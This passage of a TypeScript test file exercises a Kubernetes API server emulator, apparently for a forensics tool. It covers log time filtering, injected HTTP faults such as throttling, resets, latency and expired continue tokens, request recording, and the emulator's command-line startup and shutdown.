  it('filters sinceTime like the kubelet behind the apiserver: RFC 3339, truncated to the second, Before(since) dropped', async () => {
    const since = async (t: string) =>
      (await get(`${WEB_LOG}?sinceTime=${encodeURIComponent(t)}`)).body
        .toString()
        .trimEnd()
        .split('\n');
    assert.deepEqual(await since('2026-11-30T09:59:59.9Z'), ['half', 'same time', 'one ns', 'offset', 'later']);
    assert.deepEqual(await since('2026-11-30T09:59:59Z'), ['half', 'same time', 'one ns', 'offset', 'later']);
    assert.deepEqual(await since('2026-11-30T10:00:00Z'), ['one ns', 'offset', 'later']);
    assert.deepEqual(await since('2026-11-30T10:00:00.999999999Z'), ['one ns', 'offset', 'later']);
    assert.deepEqual(await since('2026-11-30T11:00:00.5+01:00'), ['one ns', 'offset', 'later'], 'offsets are honoured');
    assert.deepEqual(await since('2026-11-30T10:00:01Z'), ['later']);
    const bad = await get(`${WEB_LOG}?sinceTime=2026-11-30`);
    assert.equal(bad.status, 400);
    assert.match(JSON.parse(bad.body.toString()).message, /^parsing time "2026-11-30" as "2006-01-02T15:04:05Z07:00"/);
  });

  it('answers 429 with Retry-After and a TooManyRequests Status, 503 ServiceUnavailable, and the filters\' plain-text 429', async () => {
    emu.faults.add({ type: 'error', path: WEB_LOG, status: 429, retryAfter: 3, times: 1 });
    const r = await get(WEB_LOG);
    assert.equal(r.status, 429);
    assert.equal(r.headers['retry-after'], '3');
    assert.deepEqual(JSON.parse(r.body.toString()), {
      kind: 'Status',
      apiVersion: 'v1',
      metadata: {},
      status: 'Failure',
      message: 'Too many requests, please try again later.',
      reason: 'TooManyRequests',
      details: { retryAfterSeconds: 3 },
      code: 429,
    });
    assert.equal((await get(WEB_LOG)).status, 200, 'times: 1');
    emu.faults.add({ type: 'error', path: '/api/v1/namespaces/default/configmaps', status: 503, retryAfter: 1, times: 1 });
    const kc = new k8s.KubeConfig();
    kc.loadFromString(emu.kubeconfigYaml);
    const err = await apiError(kc.makeApiClient(k8s.CoreV1Api).listNamespacedConfigMap({ namespace: 'default' }));
    assert.equal(err.code, 503);
    assert.equal(err.body?.reason, 'ServiceUnavailable');
    emu.faults.throttle({ path: WEB_LOG, body: 'text', retryAfter: 2, times: 1 });
    const text = await get(WEB_LOG);
    assert.deepEqual([text.status, text.headers['retry-after'], text.headers['content-type'], text.body.toString()], [429, '2', 'text/plain; charset=utf-8', 'Too many requests, please try again later.\n']);
    emu.faults.add({ type: 'error', path: WEB_LOG, status: 500, reason: 'ServiceUnavailable', message: 'etcd leader changed', times: 1 });
    const custom = JSON.parse((await get(WEB_LOG)).body.toString()) as { code: number; reason: string; message: string };
    assert.deepEqual([custom.code, custom.reason, custom.message], [500, 'ServiceUnavailable', 'etcd leader changed']);
  });

  it('resets a log stream after exactly afterBytes body bytes, times: N, and records the cut', async () => {
    emu.faults.reset(100, { path: WEB_LOG, times: 2 });
    const first = await get(`${WEB_LOG}?timestamps=true`);
    const second = await get(`${WEB_LOG}?timestamps=true`);
    const whole = await get(`${WEB_LOG}?timestamps=true`);
    assert.equal(first.status, 200, 'the status line and headers went out');
    assert.deepEqual([first.complete, first.body.length, second.complete, second.body.length], [false, 100, false, 100]);
    assert.ok(whole.complete);
    assert.deepEqual(first.body, whole.body.subarray(0, 100));
    await emu.settled();
    const seen = emu.requests.filter((e) => e.path === `${WEB_LOG}?timestamps=true`).slice(-3);
    assert.deepEqual(seen.map((e) => [e.status, e.bytes, e.cut]), [[200, 100, 'reset'], [200, 100, 'reset'], [200, whole.body.length, undefined]]);
    assert.deepEqual(seen[0]!.faults, ['reset']);
    assert.equal(seen[0]!.sha256, sha256(first.body));
    // afterBytes: 0 cuts right after the headers; a JSON list is cut just the same.
    emu.faults.reset(0, { path: '/api/v1/namespaces/default/configmaps', times: 1 });
    const list = await get('/api/v1/namespaces/default/configmaps');
    assert.deepEqual([list.status, list.complete, list.body.length], [200, false, 0]);
  });

  it('trickles a body in chunkBytes pieces intervalMs apart, and the bytes are the same', async () => {
    const plain = await get('/api/v1/namespaces/default/configmaps');
    emu.faults.trickle({ chunkBytes: 64, intervalMs: 5, path: '/api/v1/namespaces/default/configmaps', times: 1 });
    const slow = await get('/api/v1/namespaces/default/configmaps');
    assert.ok(slow.complete);
    assert.deepEqual(slow.body, plain.body);
    const pieces = Math.ceil(plain.body.length / 64);
    assert.ok(slow.chunks >= pieces / 2, `arrived in ${slow.chunks} reads for ${pieces} pieces`);
    assert.ok(slow.ms >= (pieces - 1) * 5, `${slow.ms} ms for ${pieces} pieces 5 ms apart`);
  });

  it('limits a log stream to bytesPerSecond', async () => {
    const path = '/api/v1/namespaces/default/pods/big/log';
    const fast = await get(path);
    assert.equal(fast.body.length, 20_001);
    emu.faults.bandwidth(40_000, { path, times: 1 });
    const slow = await get(path);
    assert.deepEqual(slow.body, fast.body);
    assert.ok(slow.ms >= 400, `20 kB at 40 kB/s took ${slow.ms} ms`);
    assert.ok(slow.ms < 3000, `and not much longer: ${slow.ms} ms`);
  });

  it('adds latency to every request, log streams and lists included, cheaply enough for thousands', async () => {
    const remove = emu.faults.latency(25);
    const agent = new Agent({ keepAlive: true, maxSockets: 64, ca: emu.caPem });
    try {
      const paths = Array.from({ length: 2000 }, (_, i) => (i % 2 ? `${WEB_LOG}?tailLines=1` : `/api/v1/namespaces/default/configmaps?limit=2`));
      const started = performance.now();
      const results: Raw[] = [];
      const queue = [...paths];
      await Promise.all(
        Array.from({ length: 64 }, async () => {
          for (let p = queue.shift(); p !== undefined; p = queue.shift()) results.push(await get(p, { agent }));
        }),
      );
      const total = performance.now() - started;
      assert.ok(results.every((r) => r.status === 200 && r.ms >= 24), 'every answer waited the latency');
      // 2000 requests, 64 at a time, 25 ms each: about 0.8 s of latency; the rest is overhead.
      assert.ok(total < 8000, `2000 requests took ${Math.round(total)} ms`);
      await emu.settled();
      assert.ok(emu.requests.slice(-2000).every((e) => e.faults.includes('latency')));
    } finally {
      remove();
      agent.destroy();
    }
  });

  it('answers 410 to continue tokens times: 5 in a row, never to a fresh list', async () => {
    emu.faults.expireContinue('configmaps', 1, { times: 5 });
    const statuses: number[] = [];
    let names: string[] = [];
    for (let attempt = 0; attempt < 10 && !names.length; attempt++) {
      const got: string[] = [];
      let cont = '';
      for (;;) {
        const page = await get(`/api/v1/namespaces/default/configmaps?limit=3${cont ? `&continue=${encodeURIComponent(cont)}` : ''}`);
        statuses.push(page.status);
        if (page.status !== 200) break;
        const body = JSON.parse(page.body.toString()) as { items: { metadata: { name: string } }[]; metadata: { continue?: string } };
        got.push(...body.items.map((i) => i.metadata.name));
        if (!body.metadata.continue) {
          names = got;
          break;
        }
        cont = body.metadata.continue;
      }
    }
    assert.deepEqual(statuses, [200, 410, 200, 410, 200, 410, 200, 410, 200, 410, 200, 200, 200]);
    assert.equal(names.length, 7);
  });

  it('counts every request with status, bytes, SHA-256 and the exact bytes served', async () => {
    const before = emu.requests.length;
    const log = await get(`${WEB_LOG}?timestamps=True`);
    emu.faults.drop(WEB_LOG, 1);
    await assert.rejects(get(WEB_LOG));
    const denied = await fetchRaw(emu, '/api/v1/namespaces');
    await emu.settled();
    const [a, b, c] = emu.requests.slice(before);
    assert.deepEqual([a!.index, a!.method, a!.path, a!.status, a!.bytes, a!.cut], [before, 'GET', `${WEB_LOG}?timestamps=True`, 200, log.body.length, undefined]);
    assert.equal(a!.sha256, sha256(log.body));
    assert.deepEqual(emu.servedBody(a!.index), log.body);
    assert.deepEqual([b!.status, b!.bytes, b!.cut, b!.faults], [0, 0, 'drop', ['drop']]);
    assert.deepEqual([c!.status, emu.servedBody(c!.index)], [401, denied.body]);
    assert.ok(c!.endedAt! >= c!.startedAt);
    emu.recordBodies(false);
    await get(WEB_LOG);
    await emu.settled();
    assert.equal(emu.servedBody(emu.requests.length - 1), undefined, 'recording off: hash and count only');
    assert.match(emu.requests.at(-1)!.sha256, /^[0-9a-f]{64}$/);
    emu.recordBodies(true);
  });

  it('refuses a fault spec it cannot honour', () => {
    assert.throws(() => emu.faults.add({ type: 'bandwidth', bytesPerSecond: 0 }), /bytesPerSecond must be positive/);
    assert.throws(() => parseScenario('apiVersion: kubeforensys.dev/emulator-v1\nkind: KubeForenSysEmulatorData\nfaults: [{type: slow}]\n'), /faults\[0\]: unknown fault type "slow"/);
  });
});

describe('the large generated cluster', () => {
  it('has lines sharing a timestamp, so resume de-duplication by position is exercised', () => {
    const s = generateLargeScenario({ pods: 1, containersPerPod: 1, linesPerContainer: 100, now: NOW });
    const logs = s.containers.values().next().value!.logs as () => Iterable<LogLine>;
    const times = [...logs()].map((l) => l.time);
    assert.equal(times.length, 100);
    assert.ok(times.some((t, i) => i > 0 && t === times[i - 1]), 'some consecutive lines share a time');
    assert.deepEqual([...times].sort(), times, 'times never go backwards');
  });
});

describe('npm run emulator', () => {
  it('writes the kubeconfig, prints the URL, serves, and stops cleanly on SIGTERM', async () => {
    const dir = await tempDir('kfs-emu-main-');
    const out = join(dir, 'kubeconfig');
    const child = spawn(process.execPath, ['--import', 'tsx', 'test/emulators/kube/main.ts', '--scenario', 'test/emulators/kube/scenarios/demo.yaml', '--kubeconfig-out', out], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    try {
      let printed = '';
      const url = await new Promise<string>((resolve, reject) => {
        child.stdout.on('data', (d: Buffer) => {
          printed += d.toString();
          const m = printed.match(/listening on (https:\/\/127\.0\.0\.1:\d+)/);
          if (m && printed.includes('kubeconfig written')) resolve(m[1]!);
        });
        child.on('exit', (code) => reject(new Error(`emulator exited early (${code}): ${printed}`)));
      });
      const kc = new k8s.KubeConfig();
      kc.loadFromString(await readFile(out, 'utf8'));
      assert.equal(kc.getCurrentCluster()?.server, url);
      assert.equal(kc.getCurrentContext(), 'aks-prod-weu');
      const pods = await kc.makeApiClient(k8s.CoreV1Api).listNamespacedPod({ namespace: 'default' });
      assert.deepEqual(pods.items.map((p) => p.metadata?.name), ['node-debugger']);
      const exited = new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));
      child.kill('SIGTERM');
      assert.equal(await exited, 0);
    } finally {
      if (child.exitCode === null) child.kill('SIGKILL');
      await rm(dir, { recursive: true, force: true });
    }
  });
  it('starts its clock at --now: ${now…} in the scenario and the printed start follow it', async () => {
    const dir = await tempDir('kfs-emu-now-');
    const out = join(dir, 'kubeconfig');
    const child = spawn(
      process.execPath,
      ['--import', 'tsx', 'test/emulators/kube/main.ts', '--scenario', 'test/emulators/kube/scenarios/demo.yaml', '--kubeconfig-out', out, '--now', '2026-11-30T10:00:00Z'],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    );
    try {
      let printed = '';
      await new Promise<void>((resolve, reject) => {
        child.stdout.on('data', (d: Buffer) => {
          printed += d.toString();
          if (printed.includes('kubeconfig written')) resolve();
        });
        child.on('exit', (code) => reject(new Error(`emulator exited early (${code}): ${printed}`)));
      });
      assert.match(printed, /^clock starts at 2026-11-30T10:00:00Z$/m);
      const kc = new k8s.KubeConfig();
      kc.loadFromString(await readFile(out, 'utf8'));
      const pod = await kc.makeApiClient(k8s.CoreV1Api).readNamespacedPod({ namespace: 'default', name: 'node-debugger' });
      assert.equal(pod.metadata?.creationTimestamp?.toISOString(), '2026-11-30T09:20:00.000Z', 'the demo plants it at ${now-40m}');
    } finally {
      child.kill('SIGTERM');
      await new Promise((resolve) => (child.exitCode === null ? child.once('exit', resolve) : resolve(null)));
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('refuses a --now that is not RFC 3339 with a usage error', async () => {
    const child = spawn(process.execPath, ['--import', 'tsx', 'test/emulators/kube/main.ts', '--scenario', 'x.yaml', '--kubeconfig-out', '/dev/null', '--now', 'tomorrow'], {
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    let err = '';
    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
    const code = await new Promise<number | null>((resolve) => child.once('exit', resolve));
    assert.equal(code, 2);
    assert.match(err, /--now "tomorrow" is not an RFC 3339 time/);
  });
});
